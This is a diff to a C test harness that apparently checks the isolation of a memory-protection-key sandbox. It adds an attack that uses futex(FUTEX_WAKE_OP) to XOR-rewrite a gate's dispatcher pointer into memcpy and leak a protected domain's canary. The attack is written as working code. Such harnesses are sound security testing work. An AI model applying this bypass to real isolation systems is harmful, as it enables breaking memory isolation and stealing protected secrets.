@@ -18,10 +18,12 @@
 #include <fcntl.h>
 #include <limits.h>
 #include <linux/filter.h>
+#include <linux/futex.h>
 #include <linux/perf_event.h>
 #include <linux/rseq.h>
 #include <linux/seccomp.h>
 #include <signal.h>
+#include <stddef.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
@@ -407,6 +409,50 @@ static void exploit_control_block(void)
 	cb->dispatch = base + memcpy_at;
 	gate3((uint64_t)(uintptr_t)stolen, base + canary_at, sizeof(stolen) - 1);
 	show_leak((const unsigned char *)stolen, sizeof(stolen) - 1, base + canary_at);
+}
+
+/*
+ * FUTEX_WAKE_OP changes the word at uaddr2 with an exclusive load and store
+ * made at EL1, which POR_EL0 does not govern. Pointed at the control
+ * block's dispatcher address, it flips the bits that make it libara's
+ * memcpy; the gate then copies DOM0's canary to the App.
+ */
+static int attack_futex_wake_op(void)
+{
+	static uint32_t word; /* a futex nobody waits on */
+	uint64_t base = memfd_base("ara-libara");
+	uint64_t from = symbol(libara_file, "ara_dispatch"), to = symbol(libara_file, "memcpy");
+	uint64_t canary_at = symbol(libara_file, "dom0_canary");
+	int (*gate3)(uint64_t, uint64_t, uint64_t) =
+		(int (*)(uint64_t, uint64_t, uint64_t))(void (*)(void))secure_call;
+	static char stolen[64];
+	uint32_t *dispatch, diff;
+	long rc;
+
+	if (find_control_block())
+		return 1;
+	if (!base || !from || !to || !canary_at) {
+		printf("FAIL: cannot find libara's symbols in %s\n", libara_file);
+		return 1;
+	}
+	dispatch = (uint32_t *)(uintptr_t)(control_block + offsetof(struct fake_cb, dispatch));
+	/* XOR 0 first: changes nothing, tells whether the call is allowed at all. */
+	rc = syscall(SYS_futex, &word, FUTEX_WAKE_OP_PRIVATE, 0, NULL, dispatch,
+		     FUTEX_OP(FUTEX_OP_XOR, 0, FUTEX_OP_CMP_EQ, 0));
+	if (stopped("futex(FUTEX_WAKE_OP) on the gate's control block", rc))
+		return 0;
+	diff = (uint32_t)((base + from) ^ (base + to));
+	for (unsigned int bit = 0; bit < 32; bit++) {
+		const unsigned int xor_bit = FUTEX_OP_XOR | FUTEX_OP_OPARG_SHIFT; /* oparg = 1 << bit */
+
+		if (diff >> bit & 1)
+			syscall(SYS_futex, &word, FUTEX_WAKE_OP_PRIVATE, 0, NULL, dispatch,
+				FUTEX_OP(xor_bit, bit, FUTEX_OP_CMP_EQ, 0));
+	}
+	printf("BREACH: futex(FUTEX_WAKE_OP) rewrote DOM0's dispatcher address\n");
+	gate3((uint64_t)(uintptr_t)stolen, base + canary_at, sizeof(stolen) - 1);
+	show_leak((const unsigned char *)stolen, sizeof(stolen) - 1, base + canary_at);
+	return 1;
 }
 
 static int attack_munmap(void)
@@ -878,6 +924,7 @@ static const struct attack {
 	{ "syscall_user_dispatch", attack_syscall_user_dispatch },
 	{ "personality", attack_personality },
 	{ "process_madvise", attack_process_madvise },
+	{ "futex_wake_op", attack_futex_wake_op },
 	{ "core_dump_child", attack_core_dump_child },
 };
 
